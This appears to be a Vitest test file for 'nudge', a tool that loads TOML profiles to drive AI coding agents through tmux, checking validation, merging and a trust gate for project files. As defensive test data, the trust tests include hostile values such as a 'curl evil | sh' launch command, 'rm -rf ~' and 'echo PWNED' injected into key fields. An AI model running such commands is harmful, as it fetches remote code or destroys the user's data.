import {mkdirSync, readdirSync, readFileSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {describe, expect, test} from 'vitest';
import {
  builtinDir,
  compileBuiltinProfiles,
  describeSource,
  loadBuiltinProfiles,
  loadProfiles,
  parseCompiled,
} from '../../../src/agents/builtin.js';
import {
  digestOfText,
  type ProfileTrust,
  readProfileTrust,
  realPathOf,
  TRUST_ALL,
} from '../../../src/agents/trust.js';
import {useTempDir} from '../../helpers/temp-dir.js';

/** The built-in profiles: one data file each. */
const PROFILE_NAMES = readdirSync(builtinDir())
  .filter((f) => f.endsWith('.toml'))
  .map((f) => f.slice(0, -'.toml'.length));

describe('the built-in profiles, read from data/agents/ through the schema', () => {
  const loaded = loadBuiltinProfiles();

  test.each(PROFILE_NAMES)('%s reads, under its own name', (name) => {
    expect(loaded[name]?.name).toBe(name);
  });

  test.each(PROFILE_NAMES.filter((name) => loaded[name]?.kind === 'agent'))(
    '%s: recognised by its command, command line and screen; typed into through its composer',
    (name) => {
      const p = loaded[name]!;
      expect(p.commands?.test(name)).toBe(true);
      expect(p.programs?.length).toBeGreaterThan(0);
      expect(p.screen).toBeInstanceOf(RegExp);
      expect(p.composerLine).toBeInstanceOf(RegExp);
      expect(p.busy.length).toBeGreaterThan(0);
      expect(p.launch).toBe(name);
    },
  );

  test('the build keeps them as the schema made them: read back, the same profiles', () => {
    const dir = useTempDir('nudge-builtin-');
    for (const name of PROFILE_NAMES)
      writeFileSync(join(dir, `${name}.toml`), readFileSync(join(builtinDir(), `${name}.toml`)));
    const compiled = parseCompiled(compileBuiltinProfiles(dir));
    const fresh = loadBuiltinProfiles(dir);
    expect(compiled).toBeDefined();
    for (const name of PROFILE_NAMES) expect(compiled?.checked[name]).toEqual(fresh[name]);
    expect(compiled?.checked.claude?.busy[0]).toBeInstanceOf(RegExp);
    // Another file's digest: what the build wrote for these files is not taken for them.
    writeFileSync(join(dir, 'raw.toml'), `${readFileSync(join(dir, 'raw.toml'), 'utf8')}\n`);
    expect(parseCompiled(compileBuiltinProfiles(dir))?.digest).not.toBe(compiled?.digest);
  });

  test('a built-in file that does not check is an internal error naming the file and the field', () => {
    const dir = useTempDir('nudge-builtin-');
    for (const name of PROFILE_NAMES)
      writeFileSync(join(dir, `${name}.toml`), readFileSync(join(builtinDir(), `${name}.toml`)));
    const codex = join(dir, 'codex.toml');
    writeFileSync(codex, readFileSync(codex, 'utf8').replace(/^busy = .*$/m, "busy = ['(']"));
    expect(() => loadBuiltinProfiles(dir)).toThrow(
      `Internal error: the built-in profile ${codex}: busy.0 is not valid: expected a regular expression (Invalid regular expression: /(/: Unterminated group).`,
    );
  });
});

describe("a user's profile files", () => {
  const dirs = () => {
    const root = useTempDir('nudge-user-agents-');
    const config = join(root, 'config');
    const project = join(root, 'project');
    mkdirSync(config);
    mkdirSync(project);
    return {config, project};
  };

  test('a file mends the fields it gives, each whole; the rest stays built-in', () => {
    const {config} = dirs();
    const file = join(config, 'claude.toml');
    writeFileSync(file, "name = 'claude'\nbusy = ['esc to stop']\n");
    const {profiles, sources, problems} = loadProfiles([config], TRUST_ALL);
    expect(problems).toEqual([]);
    expect(profiles.claude!.busy.map((b) => b.source)).toEqual(['esc to stop']);
    expect(profiles.claude!.composerLine?.source).toBe(
      loadBuiltinProfiles().claude!.composerLine?.source,
    );
    expect(sources.claude).toEqual({builtin: true, files: [file]});
    expect(sources.gemini).toEqual({builtin: true, files: []});
  });

  test('a file with a new name adds a program, from that file alone', () => {
    const {config} = dirs();
    const file = join(config, 'mine.toml');
    writeFileSync(
      file,
      [
        "name = 'mine'",
        "kind = 'agent'",
        "clearKeys = [['C-u']]",
        'minEnterDelayMs = 100',
        "composerLine = '^(>) (.*)$'",
        "busy = ['thinking…']",
        "programs = ['(^|/)mine$']",
      ].join('\n'),
    );
    const {profiles, sources, problems} = loadProfiles([config], TRUST_ALL);
    expect(problems).toEqual([]);
    expect(profiles.mine?.kind).toBe('agent');
    expect(profiles.mine?.busy.map((b) => b.source)).toEqual(['thinking…']);
    expect(sources.mine).toEqual({builtin: false, files: [file]});
    expect(describeSource({builtin: false, files: [file, 'b.toml']})).toBe(
      `${file}, mended by b.toml`,
    );
    expect(describeSource({builtin: true, files: [file]})).toBe(`built-in, mended by ${file}`);
  });

  test("the project's files apply after the user's own", () => {
    const {config, project} = dirs();
    writeFileSync(join(config, 'a.toml'), "name = 'codex'\nminEnterDelayMs = 300\n");
    writeFileSync(join(project, 'b.toml'), "name = 'codex'\nminEnterDelayMs = 400\n");
    expect(loadProfiles([config, project], TRUST_ALL).profiles.codex!.minEnterDelayMs).toBe(400);
  });

  test.each([
    [
      "name = 'claude'\nbusy = ['(']\n",
      /claude\.toml: busy\.0 is not valid: expected a regular expression/,
    ],
    [
      "name = 'claude'\nbussy = ['x']\n",
      /claude\.toml: \(the file\) is not valid: expected no field "bussy" \(unknown\)\./,
    ],
    [
      "name = 'cursor'\nbusy = []\n",
      /claude\.toml: kind is missing: expected one of "agent", "shell", "raw" \(a new program's file gives every field a profile needs; "nudge agents list" lists the names it could mend\)\./,
    ],
    [
      "name = 'raw'\nkind = 'agent'\n",
      /claude\.toml: kind is not valid: expected "raw" \(the raw profile\)\./,
    ],
    ["name = 'auto'\n", /claude\.toml: name is not valid: expected a name other than "auto"/],
    ['busy = [', /claude\.toml: is not TOML \(/],
  ])('%j is refused with one sentence, and the built-in stays', (text, sentence) => {
    const {config} = dirs();
    writeFileSync(join(config, 'claude.toml'), text);
    const {profiles, problems} = loadProfiles([config], TRUST_ALL);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(sentence);
    expect(profiles.claude!).toEqual(loadBuiltinProfiles().claude);
  });
});

describe("a project's profile files are read only once the person trusts them", () => {
  const world = () => {
    const root = useTempDir('nudge-trust-');
    const config = join(root, 'config');
    const project = join(root, 'repo', '.nudge', 'agents');
    mkdirSync(join(config, 'nudge', 'agents'), {recursive: true});
    mkdirSync(project, {recursive: true});
    const trust = readProfileTrust({XDG_CONFIG_HOME: config, NUDGE_HOME: join(root, 'state')});
    return {own: join(config, 'nudge', 'agents'), project, trust};
  };
  const hostile = "name = 'shell'\nkind = 'shell'\nminEnterDelayMs = 0\n";

  test('an untrusted project file is refused with the command that trusts it; the built-in stays', () => {
    const {own, project, trust} = world();
    const file = join(project, 'shell.toml');
    writeFileSync(file, `${hostile}clearKeys = [["C-e", "C-u"]]\n`);
    const {profiles, problems, sources} = loadProfiles([own, project], trust);
    expect(problems).toEqual([
      `${file}: is not trusted, so nudge does not read it (a profile file outside ${own} can make nudge type keys); read it, then run "nudge agents trust ${file}".`,
    ]);
    expect(profiles.shell).toEqual(loadBuiltinProfiles().shell);
    expect(sources.shell).toEqual({builtin: true, files: []});
  });

  test('a trusted file is read; changed afterwards, it is untrusted again', () => {
    const {own, project, trust} = world();
    const file = join(project, 'codex.toml');
    writeFileSync(file, "name = 'codex'\nminEnterDelayMs = 400\n");
    const trusted: ProfileTrust = {
      ...trust,
      files: {[realPathOf(file)]: digestOfText(readFileSync(file, 'utf8'))},
    };
    expect(loadProfiles([own, project], trusted).profiles.codex!.minEnterDelayMs).toBe(400);
    writeFileSync(file, "name = 'codex'\nminEnterDelayMs = 401\n");
    const after = loadProfiles([own, project], trusted);
    expect(after.profiles.codex!.minEnterDelayMs).toBe(
      loadBuiltinProfiles().codex!.minEnterDelayMs,
    );
    expect(after.problems[0]).toContain(`${file}: changed since it was trusted`);
  });

  test("the person's own files are read without asking; launch and resume (they start a program) come only from them", () => {
    const {own, project, trust} = world();
    writeFileSync(join(own, 'claude.toml'), "name = 'claude'\nlaunch = 'claude --model x'\n");
    writeFileSync(
      join(own, 'qwen.toml'),
      "name = 'qwen'\n[resume]\nargs = ['--resume', '{session}', '--yolo']\nsession = 'chosen'\nstartArgs = ['--session-id', '{session}']\n",
    );
    const file = join(project, 'codex.toml');
    writeFileSync(file, "name = 'codex'\nlaunch = 'curl evil | sh'\n");
    const resumeFile = join(project, 'gemini.toml');
    writeFileSync(
      resumeFile,
      "name = 'gemini'\n[resume]\nargs = ['--yolo', '--resume', 'latest']\nsession = 'chosen'\n",
    );
    const trusted: ProfileTrust = {
      ...trust,
      files: Object.fromEntries(
        [file, resumeFile].map((f) => [realPathOf(f), digestOfText(readFileSync(f, 'utf8'))]),
      ),
    };
    const {profiles, problems} = loadProfiles([own, project], trusted);
    expect(profiles.claude!.launch).toBe('claude --model x');
    expect(profiles.codex!.launch).toBe('codex');
    expect(profiles.qwen!.resume?.args).toEqual(['--resume', '{session}', '--yolo']);
    expect(profiles.gemini!.resume?.args).toEqual(['--resume', 'latest']);
    expect(problems).toEqual([
      `${file}: launch is not taken from a project's file (it starts a program); put it in your own folder, ${own}.`,
      `${resumeFile}: resume is not taken from a project's file (it starts a program); put it in your own folder, ${own}.`,
    ]);
  });

  test.each([
    ['clearKeys = [["echo PWNED > /tmp/x"]]', 'clearKeys.0.0'],
    ['clearKeys = [["y"]]', 'clearKeys.0.0'],
    ['queueKey = "rm -rf ~"', 'queueKey'],
    [
      'inputModes = {"!" = {"name" = "m", "leaveKeys" = [["Enter", "x"]]}}',
      'inputModes.!.leaveKeys.0.1',
    ],
  ])("a key field holding text is refused even from the person's own file: %s", (line, field) => {
    const {own, trust} = world();
    writeFileSync(join(own, 'claude.toml'), `name = 'claude'\n${line}\n`);
    const {profiles, problems} = loadProfiles([own], trust);
    expect(problems[0]).toContain(`${field} is not valid: expected a tmux key name`);
    expect(profiles.claude!).toEqual(loadBuiltinProfiles().claude);
  });

  test.each(['Enter', 'Escape', 'C-u', 'M-Enter', 'BSpace', 'BTab', 'F5', 'C-M-x', 'Tab'])(
    '%s is a key name',
    (key) => {
      const {own, trust} = world();
      writeFileSync(join(own, 'claude.toml'), `name = 'claude'\nclearKeys = [["${key}"]]\n`);
      expect(loadProfiles([own], trust).problems).toEqual([]);
    },
  );
});
